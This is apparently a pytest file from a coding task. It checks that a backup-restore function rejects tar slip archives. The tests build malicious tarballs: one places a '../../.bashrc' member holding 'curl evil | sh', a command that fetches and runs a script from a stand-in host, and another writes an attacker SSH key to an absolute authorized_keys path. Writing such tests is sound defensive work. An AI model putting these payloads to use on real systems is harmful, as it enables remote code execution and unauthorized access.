import io
import tarfile

from solution import restore_backup


def _add(tar, name, data):
    info = tarfile.TarInfo(name)
    info.size = len(data)
    tar.addfile(info, io.BytesIO(data))


def _restore(archive, dest):
    try:
        restore_backup(str(archive), str(dest))
    except Exception:
        pass  # refusing the archive is fine


def test_dot_dot_member_stays_inside(tmp_path):
    """Tar slip: member `../../.bashrc` overwrites a file outside the destination."""
    archive = tmp_path / "evil.tar.gz"
    with tarfile.open(archive, "w:gz") as tar:
        _add(tar, "ok.txt", b"fine")
        _add(tar, "../../.bashrc", b"curl evil | sh")
    dest = tmp_path / "x" / "restore"
    dest.mkdir(parents=True)
    _restore(archive, dest)
    assert not (tmp_path / ".bashrc").exists()


def test_absolute_member_stays_inside(tmp_path):
    """A member with an absolute name is written wherever the attacker chose."""
    target = tmp_path / "authorized_keys"
    archive = tmp_path / "abs.tar.gz"
    with tarfile.open(archive, "w:gz") as tar:
        _add(tar, str(target), b"ssh-rsa attacker")
    dest = tmp_path / "restore"
    dest.mkdir()
    _restore(archive, dest)
    assert not target.exists()
